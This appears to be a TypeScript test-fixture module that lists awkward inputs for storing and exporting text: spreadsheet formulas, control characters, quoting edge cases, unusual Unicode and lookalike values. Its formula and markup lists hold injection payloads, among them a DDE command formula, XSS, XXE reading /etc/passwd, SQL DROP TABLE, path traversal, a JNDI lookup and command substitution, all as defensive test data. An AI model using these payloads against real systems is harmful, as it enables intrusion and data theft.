import { Draw } from './draw.ts'

const codes = (from: number, to: number): readonly string[] =>
  Array.from({ length: to - from + 1 }, (_, at) => String.fromCharCode(from + at))

/** What spreadsheets take for a formula, in its usual and its full-width form, alone and behind what hides it. */
export const formulas: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '=HYPERLINK("https://example.com/?"&A1,"click")',
  '=IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  '"=1+1',
  "'=1+1",
  ' =1+1',
  ';=1+1',
  '%0A=1+1',
  '-',
  '@agent-nano-agent-gpt-5 PROMPT',
  '+++ b/src/main.py\n@@ -1,3 +1,3 @@\n-old\n+new',
]

/** All of C0 but U+0000, which Postgres cannot hold, DEL, and all of C1; each alone, then all at once. */
const controls = [...codes(0x01, 0x1f), ...codes(0x7f, 0x9f)]
export const controlTexts: readonly string[] = [
  ...controls.map((control) => `before${control}after`),
  controls.join(''),
  '\u001b[31mred\u001b[0m \u001b]0;title\u0007\u001b[2J',
  '\u0007\u0008\u0008\u0008hidden',
]

/** What must be quoted in some format. */
export const quotedTexts: readonly string[] = [
  'one\ntwo',
  'one\r\ntwo',
  'one\rtwo',
  '\r\n\n\r\r\n',
  'ends with a line feed\n',
  '\r',
  'a "quoted" word',
  '"',
  '""',
  '"a","b"',
  "it's, 'quoted'",
  'a;b;c',
  'a,b,c',
  'a\tb\tc',
  'back\\slash \\n \\. \\N \\',
  '\\.',
  '\\N',
  '`code` ```block```',
  ' spaces around ',
  '\u00A0\u2003\u3000',
  'line\u2028paragraph\u2029next\u0085line',
  '|a|b|\n|-|-|',
]

/** Beyond ASCII: astral, joined, combined, from right to left, not meant for interchange. */
export const unicodeTexts: readonly string[] = [
  '😀 🎉 🚀',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}',
  '\u{1F1FA}\u{1F1F3}\u{1F1EA}\u{1F1FA}',
  '\u{1F44D}\u{1F3FD} \u2764\uFE0F #\uFE0F\u20E3',
  '\u{1D4D7}\u{1D4EE}\u{1D4F5}\u{1D4F5}\u{1D4F8} \u{20BB7}\u{10FFFD}',
  '\u05E9\u05DC\u05D5\u05DD \u05E2\u05D5\u05DC\u05DD',
  '\u0645\u0631\u062D\u0628\u0627 123 (abc)',
  'file\u202Egnp.exe',
  '\u2066isolated\u2069 \u200Emark\u200F',
  'Z\u0351\u036B\u0343a\u0348\u033Al\u034B\u0347g\u0317o\u0321',
  'e\u0301 \u00E9 n\u0303 \u00F1 \u1E9B\u0323',
  '\u0130stanbul \u0131 \u00DF \uFB01 \u01C5 \u03C2\u03C3',
  'before\uFEFFafter',
  '\uFEFFat the start',
  '\uFFFE \uFFFF',
  '\u{1FFFE}\u{FDD0}\u{10FFFF}',
  '\uFFFD \uE000 \u00AD \u200B \u2060',
  '\u4E2D\u6587 \u65E5\u672C\u8A9E \uD55C\uAD6D\uC5B4 \u0E44\u0E17\u0E22',
  '\u0915\u094D\u0937\u093F',
]

/** What other programs run, open or show. */
export const markupTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  ']]> <![CDATA[ &amp; &lt; &#0; &#x1F; <!-- -- -->',
  '<a href="javascript:alert(1)">x</a>',
  "'; DROP TABLE evaluation_results; --",
  "1' OR '1'='1",
  "$$; select pg_sleep(10); $$ E'\\x27' :name ? $1 %s {0}",
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\drivers',
  '/dev/stdin',
  'CON',
  'con.txt.',
  'file:///etc/shadow',
  'https://user@example.com:80/\\@other.example.org/?a=b&c=d#e',
  '${jndi:ldap://example.com/a} {{7*7}} <%= 7*7 %> `id` $(id)',
  '%s%n%x%00%0d%0aSet-Cookie: a=b',
  '__proto__',
  'constructor',
]

/** What a careless reader takes for something else than this text. */
export const lookalikes: readonly string[] = ['NA', 'N/A', 'NaN', 'null', 'NULL', 'None', 'nil', 'undefined', 'true', 'false', 'yes', 'no', 'on', 't', '0', '-0', '007', '+1', '1e5', '1E400', '0x1F', '1_000', '1,234.5', '12345678901234567890', '0.1000000000000000055511151231257827', '00000000000000000000000000000001', 'Infinity', '-inf', '2026-02-30', '1/2', '3-4', 'MARCH1', 'SEPT2', '12:30', '[]', '{}', '""', "''", '\\N', '#N/A', '#REF!'] // prettier-ignore

const vocabulary = 'the agent reads a file and writes its answer into another one while tests run slowly because every call of a tool waits for the network cache model token budget prompt context window summary result error retry plan step note list table column row value'.split(' ') // prettier-ignore

/** So many characters of prose, which does not shrink to nothing when it is stored; at most 100,000. */
export function longText(draw: Draw, length: number): string {
  prose ??= makeProse(new Draw().begin(0, prosePurpose, 0), 200_000)
  const start = draw.below(prose.length - length)
  return prose.slice(start, start + length)
}

const prosePurpose = 3
let prose: string | undefined

function makeProse(draw: Draw, length: number): string {
  let text = ''
  while (text.length < length) text += draw.once(8) ? `${draw.below(100_000)} ` : `${draw.of(vocabulary)} `
  return text
}
